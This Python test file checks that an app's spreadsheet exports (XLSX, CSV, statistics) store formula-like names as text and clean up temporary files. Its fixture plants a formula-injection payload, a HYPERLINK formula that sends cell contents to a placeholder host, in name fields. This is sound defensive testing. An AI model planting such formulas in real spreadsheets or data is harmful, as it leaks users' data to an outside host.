"""Spreadsheet formula injection: a name typed or imported as a formula is exported as text."""

from __future__ import annotations

import csv
import zipfile
from dataclasses import replace
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

from core.auth import Actor
from core.db import Database
from core.models import Role
from mediation.exports import exporter_accompagnements, exporter_beneficiaires
from mediation.models import Accompagnement, Beneficiaire
from mediation.statistiques import Perimetre
from tests.mediation.mediation_stats_data import Jeu, MakeAgent, activite_2026

ANNEE_2026 = Perimetre(date(2026, 1, 1), date(2026, 12, 31))
FORMULE = '=HYPERLINK("http://exemple.test/?"&A1;"Cliquez")'


@pytest.fixture
def jeu(db: Database, make_agent: MakeAgent) -> Jeu:
    jeu = activite_2026(db, make_agent)
    with db.session() as s:
        s.execute(
            update(Beneficiaire)
            .where(Beneficiaire.prenom == "Béatrice")
            .values(nom=FORMULE, prenom="@SUM(1+1)")
        )
        # Free text of the accompaniments export (the national columns hold no names).
        s.execute(update(Accompagnement).values(demarche_nom=FORMULE, lieu_nom="@SUM(1+1)"))
    return jeu


def _nominatif(actor: Actor) -> Actor:
    """The agent once the administrator granted the nominative export right."""
    return replace(actor, grants=actor.grants | {(Role.EXPORT_NOMINATIF, None)})


def test_a_formula_in_a_name_is_a_text_cell_in_xlsx(db: Database, jeu: Jeu, tmp_path: Path) -> None:
    for exporter in (exporter_beneficiaires, exporter_accompagnements):
        path = exporter(
            db, _nominatif(jeu[1]), ANNEE_2026, tmp_path / f"{exporter.__name__}.xlsx"
        ).chemin
        with zipfile.ZipFile(path) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            xml = "".join(archive.read(n).decode("utf-8") for n in sheets)
        assert "<f>" not in xml  # no formula anywhere
        workbook = openpyxl.load_workbook(path)
        values = [c.value for row in workbook.worksheets[0].iter_rows() for c in row]
        assert FORMULE in values and "@SUM(1+1)" in values


def test_a_formula_in_a_name_is_prefixed_in_csv(db: Database, jeu: Jeu, tmp_path: Path) -> None:
    for exporter in (exporter_beneficiaires, exporter_accompagnements):
        path = exporter(
            db, _nominatif(jeu[1]), ANNEE_2026, tmp_path / f"{exporter.__name__}.csv"
        ).chemin
        with path.open(encoding="utf-8-sig", newline="") as fh:
            cells = [c for row in csv.reader(fh, delimiter=";") for c in row]
        assert "'" + FORMULE in cells and "'@SUM(1+1)" in cells
        # Only the national tool's « - » for an empty value may still start with a sign.
        assert not any(c.startswith(("=", "+", "@")) for c in cells)
        assert all(c == "-" for c in cells if c.startswith("-"))


def test_temporary_files_of_exports_stay_in_the_data_folder_and_go_at_start_up(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import tempfile

    from openpyxl.worksheet._writer import create_temporary_file

    from core import paths

    monkeypatch.setattr(tempfile, "tempdir", tempfile.tempdir)
    leftover = paths.temp_dir() / "openpyxl.abandonne.xml"
    leftover.write_text("<row>Lefèvre +33546123456</row>", encoding="utf-8")
    from main import main

    with pytest.raises(SystemExit):  # start-up runs before the arguments are read
        main(["--help"])
    assert not leftover.exists()
    written = Path(create_temporary_file())
    assert written.parent == paths.data_dir() / "temporaire"
    written.unlink()


def test_a_formula_in_a_structure_name_stays_text_in_the_statistics_export(
    db: Database, jeu: Jeu, tmp_path: Path
) -> None:
    from core.models import Structure
    from mediation.exports import exporter_statistiques

    structures, _nord, _sud, coordinateur = jeu
    with db.session() as s:
        s.execute(update(Structure).where(Structure.id == structures.nord).values(nom=FORMULE))
    perimetre = replace(ANNEE_2026, structure_id=structures.nord)
    xlsx = exporter_statistiques(db, coordinateur, perimetre, tmp_path / "stats.xlsx").chemin
    with zipfile.ZipFile(xlsx) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert "<f>" not in "".join(archive.read(n).decode("utf-8") for n in sheets)
    values = [
        c.value for row in openpyxl.load_workbook(xlsx).worksheets[0].iter_rows() for c in row
    ]
    assert FORMULE in values
    path = exporter_statistiques(db, coordinateur, perimetre, tmp_path / "stats.csv").chemin
    with path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh, delimiter=";") for c in row]
    assert "'" + FORMULE in cells and FORMULE not in cells
